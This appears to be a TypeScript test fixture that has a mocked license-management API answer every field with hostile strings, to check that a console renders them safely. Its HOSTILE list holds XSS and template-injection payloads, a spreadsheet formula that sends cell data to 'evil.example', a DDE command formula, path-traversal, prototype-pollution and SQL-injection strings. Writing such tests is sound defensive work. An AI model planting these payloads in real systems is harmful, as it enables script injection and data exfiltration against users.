import type { FaultRule, SimulatorControl } from './simulatorControl';

/** Texts that have broken consoles: each stands as a name, a description, an id and an answer somewhere. */
export const HOSTILE = {
  html: '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>',
  svg: '"><svg onload=window.pwned=1>',
  scriptUrl: 'javascript:window.pwned=1',
  template: "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
  icu: '{count, plural, other {<b>#</b>}} {name}',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
  command: "@SUM(1+9)*cmd|' /C calc'!A0",
  bidi: '\u202Egnp.exe\u202C \u2066hidden\u2069',
  control: 'a\u0000b\u0007c\u001B[31md\r\ne\tf',
  surrogate: 'lone \uD800 and \uDC00',
  proto: '__proto__',
  constructed: 'constructor',
  dots: '..',
  path: '../../authorization/roles?x=1#y',
  encoded: '%2e%2e%2f%00',
  spaces: '  \u00A0\u200B\u2028\u2029  ',
  sql: "' OR 1=1; --",
  long: 'L'.repeat(100_000),
} as const;

export type HostileName = keyof typeof HOSTILE;
export const HOSTILE_NAMES = Object.keys(HOSTILE).filter((name): name is HostileName => name in HOSTILE);

const HELD = HOSTILE.html;

/** The id of someone whose every other word is a hostile text. */
export function personIdOf(name: HostileName): string {
  return `5e000000-0000-4000-8000-${String(HOSTILE_NAMES.indexOf(name)).padStart(12, '0')}`;
}

/** One whose id itself is hostile, besides those with ids as they should be. */
export const HOSTILE_ID = HOSTILE.path;

const people = [
  ...HOSTILE_NAMES.map((name) => [personIdOf(name), HOSTILE[name]] as const),
  [HOSTILE_ID, 'Ida'] as const,
];

function personOf([id, text]: readonly [id: string, text: string]): Record<string, unknown> {
  return {
    id,
    name: text,
    email: `${text}@example.org`,
    title: text,
    department: text,
    state: 'active',
    division: { id: `of ${id}`, name: text },
    authorization: { roles: [{ id: `of ${id}`, name: text }], permissions: ids },
    dateLastLogin: text,
  };
}

function definitionOf(text: string): Record<string, unknown> {
  return {
    id: text,
    description: text === HELD ? HOSTILE.long : text,
    permissions: { ids: [text, `domain:${text}:view`] },
    prerequisites: [{ id: HOSTILE.svg }],
    comprises: [{ id: HOSTILE.formula, permissions: { ids: [text] } }],
  };
}

const always = (path: string, body: unknown, method?: string): FaultRule => ({
  path,
  times: 1_000_000,
  ...(method !== undefined && { method }),
  fault: { kind: 'status', status: 200, body },
});

const texts = Object.values(HOSTILE);
/** No id is so long: an answer with such a one is refused as a whole. */
const ids = texts.filter((text) => text !== HOSTILE.long);
const listing = { pageSize: 500, pageNumber: 1, pageCount: 1, total: people.length };

/** An organization of hostile texts alone, the admin's own name and the organization's among them. */
export async function serveHostile(simulator: SimulatorControl): Promise<void> {
  const holders = people.map(([id]) => id);
  await simulator.faults(
    always('/api/v2/users/me', {
      ...personOf([personIdOf('html'), HOSTILE.html]),
      authorization: {
        permissions: ['authorization:*:*', 'directory:*:*'],
        roles: [{ id: HOSTILE.svg, name: HOSTILE.svg }],
      },
      organization: { id: HOSTILE.html, name: HOSTILE.html },
      token: {
        OAuthClient: { id: 'license-desk-demo' },
        organization: { id: HOSTILE.html, name: HOSTILE.html },
      },
    }),
    always('/api/v2/users/query', { entities: people.map(personOf) }),
    always('/api/v2/users/search', { results: people.map(personOf), ...listing }),
    ...people.map((one) => always(`/api/v2/users/${encodeURIComponent(one[0])}`, personOf(one))),
    always('/api/v2/users', { entities: people.map(personOf), ...listing }),
    always('/api/v2/license/definitions', ids.map(definitionOf), 'GET'),
    ...people.map(([id]) =>
      always(
        `/api/v2/license/users/${encodeURIComponent(id)}`,
        { id, licenses: [definitionOf(HELD)] },
        'GET',
      ),
    ),
    always(
      '/api/v2/license/users',
      { entities: holders.map((id) => ({ id, licenses: ids })), ...listing },
      'GET',
    ),
    always('/api/v2/license/users', Object.fromEntries(holders.map((id) => [id, [HELD]])), 'POST'),
    always('/api/v2/license/infer', [HELD, HOSTILE.proto], 'POST'),
    always(
      '/api/v2/license/organization',
      holders.map((userId) => ({ userId, licenseId: HOSTILE.svg, result: HOSTILE.html })),
      'POST',
    ),
    always('/api/v2/authorization/divisions', {
      entities: texts.map((text, at) => ({ id: ids[at] ?? 'last', name: text })),
      pageCount: 1,
    }),
    always('/api/v2/authorization/roles', {
      entities: texts.map((text, at) => ({ id: ids[at] ?? 'last', name: text, permissions: ids })),
      pageCount: 1,
    }),
    always('/api/v2/authorization/permissions', {
      entities: texts.map((text) => ({
        permissionMap: { [text]: [{ domain: text, entityType: text, action: text }] },
      })),
      pageCount: 1,
    }),
  );
}
